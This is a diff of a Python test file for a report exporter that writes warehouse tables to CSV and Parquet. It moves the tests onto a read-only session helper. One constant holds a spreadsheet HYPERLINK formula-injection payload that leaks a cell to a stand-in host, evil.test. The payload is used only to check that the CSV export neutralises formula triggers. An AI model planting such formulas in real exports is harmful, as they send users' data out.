@@ -4,22 +4,30 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
+from typing import Any
 
 import duckdb
 import pandas as pd
 import pytest
 
-from diligence.export import REPORTS, ExportError, export_reports
-from diligence.models import build_models
+from diligence.analytics.models import build_models
+from diligence.report.export import REPORTS, ExportedFile, ExportError, export_reports
+from diligence.warehouse import Warehouse
 
 from .helpers import rows, scalar
 from .rawdb import AS_OF, connection, create_raw, field, form, insert, questionnaire
 
 
+def export_of(warehouse: Path, out_dir: Path, fmt: str, **options: Any) -> list[ExportedFile]:
+    """The reports of the warehouse file, read through its session as the steps do."""
+    with Warehouse(warehouse).session(read_only=True, memory_limit=None) as con:
+        return export_reports(con, out_dir, fmt, label=str(warehouse), **options)  # type: ignore[arg-type]
+
+
 @pytest.mark.parametrize("fmt", ["csv", "parquet"])
 def test_exports_match_tables(clean_warehouse: Path, tmp_path: Path, fmt: str) -> None:
     out = tmp_path / "reports"
-    exported = export_reports(clean_warehouse, out, fmt)  # type: ignore[arg-type]
+    exported = export_of(clean_warehouse, out, fmt)  # type: ignore[arg-type]
     assert [e.report for e in exported] == list(REPORTS)
     assert sorted(p.name for p in out.iterdir()) == sorted(f"{r}.{fmt}" for r in REPORTS)
     for file in exported:
@@ -41,7 +49,7 @@ def test_exports_match_tables(clean_warehouse: Path, tmp_path: Path, fmt: str) -
 
 
 def test_csv_has_header_and_readable_lists(clean_warehouse: Path, tmp_path: Path) -> None:
-    export_reports(clean_warehouse, tmp_path, "csv")
+    export_of(clean_warehouse, tmp_path, "csv")
     text = (tmp_path / "connections.csv").read_text(encoding="utf-8")
     assert text.splitlines()[0].startswith("namespace_company_id,company_id,name,")
     connections = pd.read_csv(tmp_path / "connections.csv", keep_default_na=False)
@@ -68,8 +76,8 @@ def test_csv_lists_with_the_separator_stay_whole(tmp_path: Path) -> None:
     )
     insert(path, "questionnaires", [questionnaire("ns", "c1", "t1", [form("f", "F", checkbox)])])
     build_models(path, as_of=AS_OF)
-    export_reports(path, tmp_path / "csv", "csv")
-    export_reports(path, tmp_path / "parquet", "parquet")
+    export_of(path, tmp_path / "csv", "csv")
+    export_of(path, tmp_path / "parquet", "parquet")
     csv_row = pd.read_csv(tmp_path / "csv" / "answers.csv").iloc[0]
     assert json.loads(csv_row.selected_option_values) == ["A; B", "C"]
     assert json.loads(csv_row.selected_option_ids) == ["o1", "o2"]
@@ -78,7 +86,7 @@ def test_csv_lists_with_the_separator_stay_whole(tmp_path: Path) -> None:
 
 
 def test_parquet_keeps_lists(clean_warehouse: Path, tmp_path: Path) -> None:
-    export_reports(clean_warehouse, tmp_path, "parquet")
+    export_of(clean_warehouse, tmp_path, "parquet")
     connections = pd.read_parquet(tmp_path / "connections.parquet")
     acme = connections[connections.company_id == "c1"].iloc[0]
     assert list(acme.given_company_type_ids) == ["t1", "t2"]
@@ -90,8 +98,8 @@ def test_export_replaces_files_and_leaves_no_temporaries(
     out = tmp_path / "reports"
     out.mkdir()
     (out / "answers.csv").write_text("stale", encoding="utf-8")
-    export_reports(clean_warehouse, out, "csv")
-    export_reports(clean_warehouse, out, "csv")
+    export_of(clean_warehouse, out, "csv")
+    export_of(clean_warehouse, out, "csv")
     assert sorted(p.name for p in out.iterdir()) == sorted(f"{r}.csv" for r in REPORTS)
     assert (out / "answers.csv").read_text(encoding="utf-8") != "stale"
 
@@ -100,7 +108,7 @@ def test_export_of_empty_models(tmp_path: Path) -> None:
     warehouse = tmp_path / "empty.duckdb"
     build_models(warehouse, as_of=AS_OF)
     for fmt in ("csv", "parquet"):
-        exported = export_reports(warehouse, tmp_path / fmt, fmt)  # type: ignore[arg-type]
+        exported = export_of(warehouse, tmp_path / fmt, fmt)  # type: ignore[arg-type]
         assert {e.rows for e in exported} == {0}
     assert list(pd.read_csv(tmp_path / "csv" / "answers_wide.csv").columns) == [
         "namespace_company_id",
@@ -111,13 +119,11 @@ def test_export_of_empty_models(tmp_path: Path) -> None:
 
 
 def test_export_needs_built_models(tmp_path: Path) -> None:
-    with pytest.raises(ExportError, match="does not exist"):
-        export_reports(tmp_path / "nothing.duckdb", tmp_path / "out", "csv")
     duckdb.connect(str(tmp_path / "raw-only.duckdb")).close()
     with pytest.raises(ExportError, match="run `diligence models --warehouse .*` first"):
-        export_reports(tmp_path / "raw-only.duckdb", tmp_path / "out", "csv")
+        export_of(tmp_path / "raw-only.duckdb", tmp_path / "out", "csv")
     with pytest.raises(ValueError):
-        export_reports(tmp_path / "raw-only.duckdb", tmp_path / "out", "xlsx")  # type: ignore[arg-type]
+        export_of(tmp_path / "raw-only.duckdb", tmp_path / "out", "xlsx")  # type: ignore[arg-type]
 
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Open") AB'
@@ -140,8 +146,8 @@ def _hostile_warehouse(tmp_path: Path) -> Path:
 
 def test_csv_neutralises_formula_triggers_and_parquet_keeps_values(tmp_path: Path) -> None:
     path = _hostile_warehouse(tmp_path)
-    export_reports(path, tmp_path / "csv", "csv")
-    export_reports(path, tmp_path / "parquet", "parquet")
+    export_of(path, tmp_path / "csv", "csv")
+    export_of(path, tmp_path / "parquet", "parquet")
     answers = pd.read_csv(tmp_path / "csv" / "answers.csv", keep_default_na=False)
     texts = dict(zip(answers.field_id, answers.answer_text, strict=True))
     assert texts == {"cmd": "'" + FORMULA, "plus": "'+1+1", "tab": "'\t@SUM(1)", "plain": "a = b"}
@@ -155,6 +161,6 @@ def test_csv_neutralises_formula_triggers_and_parquet_keeps_values(tmp_path: Pat
 
 def test_csv_raw_writes_values_as_received(tmp_path: Path) -> None:
     path = _hostile_warehouse(tmp_path)
-    export_reports(path, tmp_path, "csv", csv_raw=True)
+    export_of(path, tmp_path, "csv", csv_raw=True)
     answers = pd.read_csv(tmp_path / "answers.csv", keep_default_na=False)
     assert dict(zip(answers.field_id, answers.answer_text, strict=True))["cmd"] == FORMULA
